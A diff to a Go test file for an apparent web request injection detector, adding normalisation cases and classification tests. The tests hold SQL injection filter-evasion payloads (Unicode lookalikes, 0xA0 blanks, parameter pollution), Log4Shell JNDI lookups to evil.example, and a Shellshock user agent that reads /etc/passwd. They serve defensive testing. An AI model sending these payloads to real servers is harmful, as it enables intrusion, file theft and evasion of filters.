@@ -43,7 +43,12 @@ func TestNormalize(t *testing.T) {
 		{`\x5Cu003c`, true, "<"}, // nginx's \x5C is a client's backslash
 		{`\x5C\x5C`, true, `\\`},
 		{"SeLeCt", true, "select"},
-		{"café", true, "café"}, // other letters are kept
+		{"café", true, "café"},                             // other letters are kept
+		{"voil%C3%A0", true, "voilà"},                      // a continuation byte 0xA0 is no blank
+		{"a%A0b%C2%A0c%E3%80%80d", true, "a b c d"},        // Latin-1, Unicode and ideographic spaces
+		{"un%E2%80%8Bion", true, "union"},                  // zero-width space dropped
+		{"%F0%9D%90%AE%F0%9D%90%A7%E2%93%98", true, "uni"}, // mathematical bold, circled
+		{"%F0%9D%9F%8F", true, "1"},
 		{"%zz%4", true, "%zz%4"},
 		{"%", true, "%"},
 	} {
@@ -68,8 +73,14 @@ func TestInjectionExamples(t *testing.T) {
 		{"/items", "id=-1%20/*!50000UnIoN*/%20/*!50000SeLeCt*/%201,2", SQL}, // MySQL's executable comments
 		{"/items", "id=1%ef%bc%87%20or%201=1--", SQL},                       // a fullwidth quote
 		{"/items", "id=un%00ion%20se%00lect%201", SQL},
-		{"/items/1%27%20or%20%271%27=%271", "", SQL}, // in the path
+		{"/items/1%27%20or%20%271%27=%271", "", SQL},   // in the path
+		{"/items", "id=1%A0union%A0select%A01,2", SQL}, // MySQL's 0xA0 blank
+		{"/items", "id=1e0union%20select%201,2", SQL},  // 1e0union is 1e0 union
+		{"/items", "id=1.union%20select%201", SQL},
+		{"/items", "id=1%27%20union/*&id=*/select%201--", SQL}, // a name given twice: joined as ASP.NET does
+		{"/items", "id=%F0%9D%90%AE%F0%9D%90%A7%F0%9D%90%A2%F0%9D%90%A8%F0%9D%90%A7%20select%201", SQL},
 		{"/items", "id=1", NoClass},
+		{"/items", "tag=a&tag=b&tag=c", NoClass},
 		{"/search", "q=O%27Reilly+books", NoClass},
 		{"/search", "q=select+a+script+for+the+play", NoClass},
 		{"/search", "q=select+*+from+users", NoClass},
@@ -101,12 +112,33 @@ func TestInjectionExamples(t *testing.T) {
 		{"/render", "tpl=%24%7Buser.name%7D", NoClass},
 	} {
 		var sc Scratch
-		f := m.Injection([]byte(c.path), []byte(c.query), &sc)
+		f := m.Injection([]byte(c.path), []byte(c.query), nil, &sc)
 		if f.Class != c.want {
 			t.Errorf("%s?%s: %q (sample %q), want %q", c.path, c.query, f.Class, f.Sample, c.want)
 		}
 		if f.Class != NoClass && len(f.Sample) == 0 {
 			t.Errorf("%s?%s: no sample", c.path, c.query)
+		}
+	}
+}
+
+// Payloads in a user agent (Log4Shell's usual place) count; the user
+// agents of browsers, libraries and bots do not.
+func TestInjectionInUserAgent(t *testing.T) {
+	m := mustCompile(t)
+	var sc Scratch
+	for ua, want := range map[string]Class{
+		"${jndi:ldap://evil.example/a}":                      Template,
+		"Mozilla/5.0 ${${lower:j}ndi:ldap://evil.example/a}": Template,
+		"' or '1'='1":                               SQL,
+		"<script>alert(1)</script>":                 XSS,
+		"() { :; }; /bin/bash -c 'cat /etc/passwd'": Command, // Shellshock
+		"Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0":   NoClass,
+		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)": NoClass,
+		"Boto3/1.34.0 md/Botocore#1.34.0 ua/2.0 os/linux#6.1":                      NoClass,
+	} {
+		if got := m.Injection([]byte("/"), nil, []byte(ua), &sc).Class; got != want {
+			t.Errorf("user agent %q: %q, want %q", ua, got, want)
 		}
 	}
 }
@@ -117,7 +149,7 @@ func TestInjectionOff(t *testing.T) {
 		t.Fatal(err)
 	}
 	var sc Scratch
-	if f := m.Injection([]byte("/x"), []byte("id=1'+or+'1'='1"), &sc); f.Class != NoClass {
+	if f := m.Injection([]byte("/x"), []byte("id=1'+or+'1'='1"), nil, &sc); f.Class != NoClass {
 		t.Fatalf("injection off found %v", f.Class)
 	}
 	if _, _, ok := m.SensitivePath([]byte("/.env"), &sc); ok {
@@ -127,7 +159,7 @@ func TestInjectionOff(t *testing.T) {
 		t.Fatal("no agents, yet sqlmap matched")
 	}
 	var nilM *Matcher
-	if nilM.Injection([]byte("/x"), []byte("id='"), &sc).Class != NoClass || nilM.InjectionOn() || nilM.AgentsOn() {
+	if nilM.Injection([]byte("/x"), []byte("id='"), nil, &sc).Class != NoClass || nilM.InjectionOn() || nilM.AgentsOn() {
 		t.Fatal("a nil Matcher matched")
 	}
 }
@@ -266,7 +298,7 @@ func FuzzInjection(f *testing.F) {
 	m := mustCompile(f)
 	f.Fuzz(func(t *testing.T, path, query, ua []byte) {
 		var sc Scratch
-		fi := m.Injection(path, query, &sc)
+		fi := m.Injection(path, query, ua, &sc)
 		if fi.Class > Template || len(fi.Sample) > maxSample {
 			t.Fatalf("finding %v with a %d-byte sample", fi.Class, len(fi.Sample))
 		}
